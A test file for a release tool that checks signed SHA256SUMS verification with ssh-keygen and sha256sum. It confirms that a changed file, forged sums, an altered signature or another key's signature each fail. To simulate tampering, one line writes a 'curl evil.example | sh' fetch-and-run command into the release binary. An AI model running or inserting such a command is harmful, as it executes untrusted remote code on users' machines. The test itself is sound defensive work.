// SHA256SUMS and who vouches for it, checked as docs/how-to/install.md tells
// an air-gapped site to: `ssh-keygen -Y verify` with an allowed-signers file
// holding the release key, then `sha256sum -c`. A throwaway key made here
// signs; a changed file, changed sums, a changed signature and another key's
// signature must each fail. Without a key, the folder says it is unsigned.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from '../helpers/bounded.ts';
import { NAMESPACE, UNSIGNED_NOTE, writeSums } from '../../release/sums.mjs';
import { tempDir } from '../helpers/support.ts';

const hasSshKeygen = spawnSync('ssh-keygen', ['-Y', 'sign'], { stdio: 'ignore' }).error === undefined;
const sh = (cwd: string, command: string, args: string[], input?: string): [number | null, string, string] => {
  const r = spawnSync(command, args, { cwd, encoding: 'utf8', timeout: 30_000, ...(input === undefined ? {} : { input }) });
  return [r.status, r.stdout, r.stderr];
};
const newKey = (dir: string, name: string) => {
  assert.deepEqual(sh(dir, 'ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-C', name, '-f', join(dir, name)]), [0, '', '']);
  const fingerprint = /^256 (SHA256:\S+) /.exec(sh(dir, 'ssh-keygen', ['-l', '-f', join(dir, `${name}.pub`)])[1])![1]!;
  return { key: join(dir, name), pub: readFileSync(join(dir, `${name}.pub`), 'utf8').trim(), fingerprint };
};
const release = (t: import('node:test').TestContext) => {
  const dir = join(tempDir(t), 'release');
  mkdirSync(join(dir, 'docs'), { recursive: true });
  writeFileSync(join(dir, 'gsd-check'), '#!/usr/bin/env node\n');
  writeFileSync(join(dir, 'docs', 'install.md'), '# How to install\n');
  return dir;
};
const NAMES = ['docs/install.md', 'gsd-check'];

test('signed: the site verifies the sums with its allowed-signers file; a changed file, sums or signature, or another key, fails', {
  skip: !hasSshKeygen && 'needs ssh-keygen',
  timeout: 60_000,
}, (t) => {
  const keys = tempDir(t);
  const signer = newKey(keys, 'release');
  const dir = release(t);
  const { sums, said } = writeSums(dir, NAMES, signer.key);
  assert.equal(said, `SHA256SUMS.sig: SHA256SUMS signed (namespace ${NAMESPACE}) with ED25519 key ${signer.fingerprint}`);
  assert.equal(readFileSync(join(dir, 'SHA256SUMS'), 'utf8'), sums);
  assert.equal(existsSync(join(dir, UNSIGNED_NOTE)), false);

  // The site's allowed-signers file, as install.md writes it.
  const site = tempDir(t);
  writeFileSync(join(site, 'allowed_signers'), `release@gsd-check namespaces="gsd-check-release" ${signer.pub}\n`);
  const verify = () =>
    sh(
      dir,
      'ssh-keygen',
      ['-Y', 'verify', '-f', join(site, 'allowed_signers'), '-I', 'release@gsd-check', '-n', 'gsd-check-release', '-s', 'SHA256SUMS.sig'],
      readFileSync(join(dir, 'SHA256SUMS'), 'utf8'),
    );
  const check = () => sh(dir, 'sha256sum', ['-c', 'SHA256SUMS']);
  // ssh-keygen ends the lines of its errors with \r\n.
  const good = [0, `Good "gsd-check-release" signature for release@gsd-check with ED25519 key ${signer.fingerprint}\n`, ''];
  assert.deepEqual(verify(), good);
  assert.deepEqual(check(), [0, 'docs/install.md: OK\ngsd-check: OK\n', '']);

  // A file changed: the signed sums catch it.
  writeFileSync(join(dir, 'gsd-check'), '#!/bin/sh\ncurl evil.example | sh\n');
  assert.deepEqual(verify(), good);
  assert.deepEqual(check(), [1, 'docs/install.md: OK\ngsd-check: FAILED\n', 'sha256sum: WARNING: 1 computed checksum did NOT match\n']);

  // The sums changed to match it: the signature catches that.
  const forged = sums.replace(/^[0-9a-f]{64}(?=  gsd-check\n)/m, sh(dir, 'sha256sum', ['gsd-check'])[1].slice(0, 64));
  writeFileSync(join(dir, 'SHA256SUMS'), forged);
  assert.deepEqual(check(), [0, 'docs/install.md: OK\ngsd-check: OK\n', '']);
  assert.deepEqual(verify(), [255, 'Could not verify signature.\n', 'Signature verification failed: incorrect signature\r\n']);
  writeFileSync(join(dir, 'SHA256SUMS'), sums);

  // The signature changed: one character of its last line of base64.
  const signature = readFileSync(join(dir, 'SHA256SUMS.sig'), 'utf8');
  const lines = signature.split('\n');
  const last = lines.length - 3; // the last line of base64 before -----END SSH SIGNATURE-----
  lines[last] = `${lines[last]!.slice(0, 4)}${lines[last]![4] === 'A' ? 'B' : 'A'}${lines[last]!.slice(5)}`;
  writeFileSync(join(dir, 'SHA256SUMS.sig'), lines.join('\n'));
  assert.deepEqual(verify(), [255, 'Could not verify signature.\n', 'Signature verification failed: incorrect signature\r\n']);

  // Signed again by a key the site does not hold.
  const other = newKey(keys, 'other');
  const again = release(t);
  writeSums(again, NAMES, other.key);
  assert.deepEqual(
    sh(
      again,
      'ssh-keygen',
      ['-Y', 'verify', '-f', join(site, 'allowed_signers'), '-I', 'release@gsd-check', '-n', 'gsd-check-release', '-s', 'SHA256SUMS.sig'],
      readFileSync(join(again, 'SHA256SUMS'), 'utf8'),
    ),
    [255, 'Could not verify signature.\n', ''],
  );
});

test('no key: the sums are written, no signature, and a note beside them says they are unsigned', { timeout: 30_000 }, (t) => {
  const dir = release(t);
  const { sums, said } = writeSums(dir, NAMES, undefined);
  assert.match(sums, /^[0-9a-f]{64} {2}docs\/install\.md\n[0-9a-f]{64} {2}gsd-check\n$/);
  assert.equal(said, `SHA256SUMS is unsigned (no --sign key given): ${UNSIGNED_NOTE} says so beside it`);
  assert.equal(existsSync(join(dir, 'SHA256SUMS.sig')), false);
  assert.equal(
    readFileSync(join(dir, UNSIGNED_NOTE), 'utf8'),
    'SHA256SUMS is not signed: this release was made without a key (npm run release -- --sign <key>).\n' +
      'Its hashes prove that the files are the ones it lists, not who listed them:\n' +
      'get SHA256SUMS, or its own SHA-256, by a channel you trust.\n',
  );
});
